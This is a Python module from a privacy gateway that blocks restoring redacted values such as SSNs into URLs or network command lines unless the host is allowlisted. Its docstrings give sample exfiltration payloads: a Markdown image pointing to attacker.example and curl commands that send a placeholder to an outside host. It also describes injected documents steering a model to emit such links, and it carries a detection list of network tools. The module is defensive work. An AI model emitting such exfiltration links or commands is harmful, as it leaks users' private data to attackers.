"""Whether restoring a placeholder would build a URL, and whether that URL's host may
receive values (the policy's `restore.url_hosts`).

A model (or a document it read) can ask for `![x](//attacker.example/p.png?s=[SSN_1])`; a
restored value there leaves through the app's own HTTP client or a chat UI that fetches
images and links. Restoration therefore keeps a placeholder that sits

- in a URL in plain text: the run of text since the last space, quote or angle bracket,
  holding a URL start after NFKC (`//`, any `scheme:`, `scheme:/`, `scheme:\\`, `www.`, a
  bare `host.tld/`);
- in a link or image destination, or an HTML attribute or script (`url_markup`, read by a
  CommonMark parser and an HTML tokenizer);
- on a command line that reaches the network (`curl host -d [SSN_1]`, in text or in a
  tool call's arguments): its hosts are the URLs and host names written after the
  command; a value piped into a network client later on the line stays too;

unless every host involved is on `restore.url_hosts` (a URL without a host never is).
Streams and the parts of one answer carry a `UrlContext` from one text to the next.
"""

from __future__ import annotations

import functools
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass

import regex
from cogate.policies import url_markup

TAIL_LIMIT = 8192
_SCHEME = r"(?<![a-z0-9+.-])[a-z][a-z0-9+.-]{1,31}:"  # two letters at least: `C:\\` is a drive
_HOST = r"(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{1,62}"
_IPV4 = r"(?:\d{1,3}\.){3}\d{1,3}"
_START = regex.compile(
    rf"(?i){_SCHEME}|//|(?<![\w.@/-])www\.|(?<![\w.@/:-])(?:{_HOST}|{_IPV4}|localhost)"
    r"(?::\d{1,5})?(?=[/?#])"
)
SPECIAL = frozenset(("http", "https", "ws", "wss", "ftp", "file"))
_AUTHORITY_END = regex.compile(r"[/?#]")
# Commands that send what follows them to the network; `/dev/tcp/` is bash's own socket.
_NETWORK = (
    r"curl|wget2?|https?|httpie|xh|xhs|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|t?ftp|"
    r"rsync|aria2c|lynx|w3m|dig|nslookup|host|ping|certutil|bitsadmin|"
    r"(?i:invoke-webrequest|invoke-restmethod|iwr|irm)"
)
_COMMAND = regex.compile(rf"(?<![\w.-])(?:{_NETWORK})(?:\.exe)?(?=[\s\"',\]]|$)|/dev/(?:tcp|udp)/")
# Where a command starts: a line, a pipe, `;`, `&`, a quote, `$(`, a JSON array...
_COMMAND_POSITION = frozenset("|;&(`\"'[,$:")
_PREFIXES = ("sudo", "exec", "xargs", "then", "do")
# Tools that are only ever network clients: named in a sentence ("run curl evil.example
# -d ...") they are a command when a host follows the name; after a placeholder on its
# line (`echo [SSN_1] | curl ...`) they take it too.
_TOOLS = frozenset(
    {
        "curl", "wget", "wget2", "httpie", "nc", "ncat", "netcat", "socat", "telnet", "ssh", "scp",
        "sftp", "rsync", "aria2c", "nslookup", "invoke-webrequest", "invoke-restmethod",
    }
)  # fmt: skip
_PATH = frozenset("./\\-_")


@functools.lru_cache(maxsize=256)
def _commands(line: str) -> tuple[tuple[int, bool, bool], ...]:
    """Where each network command of `line` ends, whether it is in command position (else
    it is a tool named in a sentence), and whether it is a tool that is never anything but
    a network client (not `host`, `ping`, `http`...). Cached: the placeholders of one line
    ask about the same line."""
    return tuple(_each_command(line))


def _each_command(line: str) -> Iterator[tuple[int, bool, bool]]:
    for match in _COMMAND.finditer(line):
        name = match.group().lower().removesuffix(".exe")
        strong = name in _TOOLS or name.startswith("/dev/")
        before = line[: match.start()]
        if before.endswith(("/", "\\")):  # /usr/bin/curl: the command is the whole path
            at = len(before)
            while at and (before[at - 1].isalnum() or before[at - 1] in _PATH):
                at -= 1
            before = before[:at]
        before = before.rstrip()
        if (
            match.group().startswith("/dev/")
            or not before
            or before[-1] in _COMMAND_POSITION
            or before.endswith(_PREFIXES)
        ):
            yield match.end(), True, strong
        elif name in _TOOLS:
            yield match.end(), False, strong


_BARE_HOST = regex.compile(rf"(?i)(?<![\w.@/-])(?:{_HOST}|{_IPV4})(?![\w-])")
# A run longer than TAIL_LIMIT: its host is no longer known, so nothing is restored in it
# (its `//` has an empty authority, which never matches an allowed host).
_OVERFLOW = "x:///"


@dataclass(frozen=True)
class UrlContext:
    """What the app saw just before a text: the URL-able run still open, and the last
    TAIL_LIMIT characters (for the command line and the Markdown/HTML around it)."""

    run: str = ""
    tail: str = ""
    html: url_markup.HtmlState = url_markup.CLOSED


EMPTY = UrlContext()


def normal(text: str) -> str:
    """The text as a URL parser reads it: NFKC (full-width `：／`), backslashes as slashes."""
    if not text.isascii():
        text = unicodedata.normalize("NFKC", text)
    return text.replace("\\", "/")


# Only these end a URL once it has begun: what a linkifier or a browser stops at. Quotes,
# brackets, `|`, `^` and backticks do not (a destination may hold them).
_LAST_END = regex.compile(r'[\s"<>]', regex.REVERSE)


def may_start(run: str) -> bool:
    """False when no URL can start in `run` (normalised): the cheap test before the regex."""
    return ":" in run or "/" in run or "." in run


def token_start(text: str, lo: int, pos: int) -> int | None:
    """The start of the URL-able run ending at `pos` within text[lo:pos] (None: starts before)."""
    found = _LAST_END.search(text, lo, pos)
    return found.end() if found is not None else None


def _authority(run: str, begin: int) -> str:
    end = _AUTHORITY_END.search(run, begin)
    if end is None:
        return ""  # the placeholder is in the authority itself
    authority = run[begin : end.start()].rsplit("@", 1)[-1]
    if authority.startswith("["):
        return authority[1 : authority.find("]")] if "]" in authority else ""
    return authority.split(":", 1)[0].lower().rstrip(".")


def hosts_in(run: str) -> list[str]:
    """The host of every URL that starts in `run` ('' when it has none or is cut there)."""
    run = normal(run)
    hosts: list[str] = []
    if not may_start(run):
        return hosts
    for match in _START.finditer(run):
        found = match.group().lower()
        begin = match.end()
        if found.endswith(":"):
            while begin < len(run) and run[begin] == "/":
                begin += 1
            if begin == match.end() and found[:-1] not in SPECIAL:
                hosts.append("")  # mailto:, sms:, javascript:...: nothing to allow
                continue
        elif found != "//":
            begin = match.start()  # www. or a bare host: the authority starts here
        hosts.append(_authority(run, begin))
    return hosts


def url_host(url: str) -> str:
    """The host a destination or attribute URL goes to ('' for a relative or opaque URL)."""
    url = normal("".join(url.split("\t")).replace("\n", "").replace("\r", "")).strip()
    hosts = hosts_in(url)
    starts = _START.match(url)
    if starts is None or not hosts:
        return ""
    return hosts[0]


class UrlGuard:
    """Decides, for placeholder positions, whether restoring them would put a value in a URL."""

    def __init__(self, allowed: list[str] | tuple[str, ...] = ()) -> None:
        self.exact = frozenset(h.lower().rstrip(".") for h in allowed if not h.startswith("*."))
        self.suffixes = tuple(h[1:].lower().rstrip(".") for h in allowed if h.startswith("*."))

    def allowed(self, host: str) -> bool:
        return bool(host) and (host in self.exact or host.endswith(self.suffixes or ("\0",)))

    def blocked(
        self, text: str, lo: int, spots: list[tuple[int, int]], context: UrlContext = EMPTY
    ) -> set[int]:
        """Which `spots` (placeholder spans in text[lo:]) must stay placeholders."""
        if not spots:
            return set()
        kept = {i for i, (pos, _) in enumerate(spots) if self.withholds(text, lo, pos, context)}
        rest = [i for i in range(len(spots)) if i not in kept]
        if not rest:
            return kept
        shifted = [(spots[i][0] - lo, spots[i][1] - lo) for i in rest]
        found = url_markup.places(context.tail, text[lo:], shifted, context.html)
        for n, where in found.items():
            if any(self._refused(kind, value) for kind, value in where):
                kept.add(rest[n])
        return kept

    def _refused(self, kind: str, value: str) -> bool:
        if kind == url_markup.URL:
            return not self.allowed(url_host(value))
        start = token_start(value, 0, len(value))
        return any(not self.allowed(host) for host in hosts_in(value[start or 0 :]))

    def withholds(self, text: str, lo: int, pos: int, context: UrlContext = EMPTY) -> bool:
        """True when text[pos] (a placeholder) is in a URL run or on a network command
        line whose hosts are not all allowed. `context`: what text[lo:] continues."""
        start = token_start(text, lo, pos)
        run = text[start:pos] if start is not None else context.run + text[lo:pos]
        if any(not self.allowed(host) for host in hosts_in(run)):
            return True
        return self._on_command_line(*_line_around(text, lo, pos, context.tail))

    def _on_command_line(self, line: str, at: int) -> bool:
        """Whether line[at] follows a network command whose hosts are not all allowed, or is
        piped into one later on the line (`echo [SSN_1] | curl -d @- host`: seen as far as
        the line has arrived, so a stream may not see it yet)."""
        commands = _commands(line)
        found = next(((end, first) for end, first, _ in commands if end <= at), None)
        if found is None:
            later = next(
                (end for end, first, strong in commands if end > at and first and strong), None
            )
            if later is None:
                return False
            found, at = (later, True), len(line)
        end, in_position = found
        rest = normal(line[end:at])
        hosts = hosts_in(rest) + [m.group().lower() for m in _BARE_HOST.finditer(rest)]
        if not hosts:
            return in_position  # a tool named in a sentence, sending nowhere
        return any(not self.allowed(host) for host in hosts)

    def advance(self, context: UrlContext, released: str) -> UrlContext:
        """The context after `released` follows `context` (kept between stream events)."""
        if not released:
            return context
        start = token_start(released, 0, len(released))
        run = released[start:] if start is not None else context.run + released
        if len(run) > TAIL_LIMIT:
            wide = normal(run)
            run = _OVERFLOW if may_start(wide) and _START.search(wide) else run[-64:]
        tail = (context.tail + released)[-TAIL_LIMIT:]
        return UrlContext(run, tail, url_markup.html_after(context.html, released))


def _line_around(text: str, lo: int, pos: int, tail: str) -> tuple[str, int]:
    """The logical line (backslash-newline continues it) around `pos`, and where `pos` is
    in it: the line's text after `pos` lets its placeholders share one reading of it."""
    begin = max(lo, pos - TAIL_LIMIT)
    end = text.find("\n", pos)
    end = len(text) if end < 0 else end
    at = _line_start(text[begin:pos])
    if at > 0:
        return text[begin + at + 1 : end], pos - begin - at - 1
    # the line (or the backslash continuing it) began in earlier text
    before = tail + text[begin:pos]
    at = _line_start(before)
    return before[at + 1 :] + text[pos:end], len(before) - at - 1


def _line_start(line: str) -> int:
    """Where the last logical line of `line` begins, less one (-1: no line break in it)."""
    at = line.rfind("\n")
    while at > 0 and line[at - 1] == "\\":
        at = line.rfind("\n", 0, at - 1)
    return at
